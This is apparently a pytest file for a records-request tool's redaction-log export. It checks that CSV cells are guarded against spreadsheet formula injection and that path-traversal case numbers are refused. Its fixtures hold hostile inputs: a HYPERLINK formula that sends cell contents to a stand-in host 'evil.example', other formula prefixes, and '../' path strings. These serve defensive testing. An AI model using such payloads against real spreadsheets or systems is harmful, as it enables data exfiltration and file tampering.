"""The redaction log: `innsyn review log` and the case's own redaction_log.csv.

A real DuckDB file holds one case whose items carry ids from the school system and reasons
typed by a reviewer, some of which begin like a spreadsheet formula. `innsyn review log`
runs as the installed command (it never needs Prefect). The CSV must open in a spreadsheet as
text, never as a formula; a case number that is not a case is bad input, and nothing is
written for it, inside `out/` or anywhere else.
"""

from __future__ import annotations

import csv
import json
import os
import stat
from pathlib import Path

import duckdb
import pytest

from conftest import FIXED_NOW, innsyn, insert_case
from innsyn import db as innsyn_db
from innsyn.redaction_log import write_case_log

NO_PREFECT = "http://127.0.0.1:9/api"  # nothing answers here: the log never needs Prefect
BASIS = "offentleglova § 13 første ledd, jf. forvaltningsloven § 13 første ledd nr. 1"

# (student_id from the school system, override reason from a reviewer): what a spreadsheet
# would run as a formula, and what it would not
HOSTILE = [
    ("=E1", '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")'),
    ("+E2", "+47 412 34 567"),
    ("-E3", "-2+3"),
    ("@E4", "@SUM(A1:A9)"),
    ("E5", "\t=1+1"),
    ("E6", "\r=1+1"),
]
HARMLESS = [("E7", "Institusjonen er nedlagt"), ("E8", "Navnet er 'ukjent' = greit")]


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    """A database with one case, 2026-1, and a withheld item overridden for every reason above."""
    with innsyn_db.open_db(tmp_path / "innsyn.duckdb") as con:
        innsyn_db.init_schema(con)
        insert_case(con, "2026-1", "2026-11-23T09:15:00+01:00")
        for n, (student_id, reason) in enumerate(HOSTILE + HARMLESS):
            con.execute(
                """INSERT INTO case_items (case_id, item_id, class_id, student_id, guardian_id, field, value,
                       sort_key, decision, rule, legal_basis, consent_state, decided_by, decided_at,
                       override_reason)
                   VALUES ('2026-1', ?, 'S001-5B', ?, NULL, 'pupil_name', 'Kanari', 'x', 'withhold',
                           'fortrolig_adresse', ?, 'overridden', 'reviewer:Lise Jurist', ?, ?)""",
                [f"item-{n}", student_id, BASIS, FIXED_NOW, reason],
            )
    return tmp_path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:  # a carriage return in a cell stays one
        return list(csv.DictReader(handle))


def assert_spreadsheet_safe(rows: list[dict[str, str]]) -> None:
    by_item = {row["student_id"]: row for row in rows}
    for student_id, reason in HOSTILE:
        row = by_item["'" + student_id if student_id[0] in "=+-@" else student_id]
        assert row["override_reason"] == "'" + reason, (student_id, row["override_reason"])
    for student_id, reason in HARMLESS:
        assert by_item[student_id]["override_reason"] == reason
    for row in rows:  # no cell a spreadsheet would run
        assert not [value for value in row.values() if value[:1] in ("=", "+", "-", "@", "\t", "\r")], row
    assert {row["decided_at"] for row in rows} == {"2026-11-24 10:00:00"}  # as DuckDB wrote it before


def assert_refused(result, message: str) -> None:
    assert result.returncode == 2, result.stderr + result.stdout
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("innsyn: error: ") and message in lines[0], result.stderr
    assert "Traceback" not in result.stderr and result.stdout == ""


# ----------------------------------------------------------------------------- formulas


def test_the_exported_log_quotes_every_cell_a_spreadsheet_would_run_as_a_formula(workdir):
    result = innsyn(workdir, NO_PREFECT, "review", "log", "--case", "2026-1")

    assert result.returncode == 0, result.stderr
    printed = json.loads(result.stdout)
    assert printed["rows"] == len(HOSTILE + HARMLESS)
    assert_spreadsheet_safe(read_csv(Path(printed["csv"])))
    # Parquet is typed data, not a spreadsheet: it keeps the values as they are
    parquet = duckdb.sql(f"SELECT student_id, override_reason FROM '{printed['parquet']}'").fetchall()
    assert sorted(parquet) == sorted(HOSTILE + HARMLESS)


def test_the_cases_own_log_is_spreadsheet_safe_too(workdir):
    target = workdir / "out" / "internal" / "2026-1" / "redaction_log.csv"
    with innsyn_db.open_db(workdir / "innsyn.duckdb", read_only=True) as con:
        write_case_log(con, "2026-1", target)

    assert_spreadsheet_safe(read_csv(target))
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


# ----------------------------------------------------------------------------- bad --case


@pytest.mark.parametrize("case", ["x/../../..", "x/../../../../escaped", "../2026-1", "/tmp/2026-1"])
def test_a_case_number_that_is_a_path_is_refused_and_nothing_is_written_anywhere(workdir, case):
    before = (workdir / "innsyn.duckdb").read_bytes()
    mode = stat.S_IMODE(workdir.stat().st_mode)
    files = sorted(os.listdir(workdir))

    result = innsyn(workdir, NO_PREFECT, "review", "log", "--case", case)

    assert_refused(result, f"--case: unknown case {case!r}")
    assert sorted(os.listdir(workdir)) == files  # no out/, no escaped.csv beside it
    assert stat.S_IMODE(workdir.stat().st_mode) == mode  # and no folder made owner-only
    assert (workdir / "innsyn.duckdb").read_bytes() == before


def test_an_unknown_case_is_refused_not_exported_as_an_empty_log(workdir):
    result = innsyn(workdir, NO_PREFECT, "review", "log", "--case", "2026-9999")

    assert_refused(result, "--case: unknown case '2026-9999'")
    assert not (workdir / "out").exists()
